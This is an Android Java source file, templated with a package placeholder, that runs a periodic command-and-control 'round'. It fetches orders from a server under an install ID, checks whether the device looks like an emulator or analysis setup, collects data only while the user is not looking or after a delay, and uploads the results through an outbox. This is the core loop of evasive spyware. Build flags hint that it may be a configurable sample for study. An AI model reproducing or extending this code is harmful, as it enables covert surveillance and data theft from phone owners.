package @PKG@;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.SharedPreferences;
import android.os.PowerManager;
import java.util.UUID;

/** One round: ask the server, set the next alarm, take what it orders, send what is kept. */
final class Rounds {
  private static final Object ONE_AT_A_TIME = new Object();

  static boolean begun(Context c) {
    return prefs(c).contains("install");
  }

  private static SharedPreferences prefs(Context c) {
    return c.getSharedPreferences("state", Context.MODE_PRIVATE);
  }

  /** From the main thread. `pending` is the broadcast's, null when there is none. */
  static void start(Context any, final String why, final BroadcastReceiver.PendingResult pending) {
    final Context c = any.getApplicationContext();
    PowerManager pm = (PowerManager) c.getSystemService(Context.POWER_SERVICE);
    final PowerManager.WakeLock awake = pm.newWakeLock(PowerManager.PARTIAL_WAKE_LOCK, Plan.TAG + ":round");
    awake.acquire(120000);
    new Thread("round") {
      @Override public void run() {
        try {
          synchronized (ONE_AT_A_TIME) {
            round(c, why);
          }
        } finally {
          if (awake.isHeld()) awake.release();
          if (pending != null) pending.finish();
        }
      }
    }.start();
  }

  private static void round(Context c, String why) {
    SharedPreferences p = prefs(c);
    if (!p.contains("install")) p.edit().putString("install", UUID.randomUUID().toString()).commit();
    long next = Plan.RETRY_S;
    try {
      if (Plan.DETECTS && Device.looksFalse()) return;
      Order o = Order.fetch(c, p.getString("install", ""));
      if (o == null) return;
      boolean first = why.equals("start");
      next = first ? o.number("delay_s", 300) : o.number("interval_s", 900);
      if (Plan.REALTIME && !Device.realTimePassed(p)) return;
      // Delayed: takes while looked at, sends later. All others take only when nobody looks.
      boolean take = Plan.DELAYED ? first : !first && !App.visible();
      if (take) {
        int n = p.getInt("round", 0);
        p.edit().putInt("round", n + 1).commit();
        new Taking(c, o, n).all();
      }
      if (Plan.UPLOAD && !(Plan.DELAYED && first)) Outbox.send(c, o);
    } catch (Exception e) {
      Outbox.note(c, "round: " + e);
    } finally {
      Alarms.in(c, TickReceiver.class, TickReceiver.TICK, next);
    }
  }
}
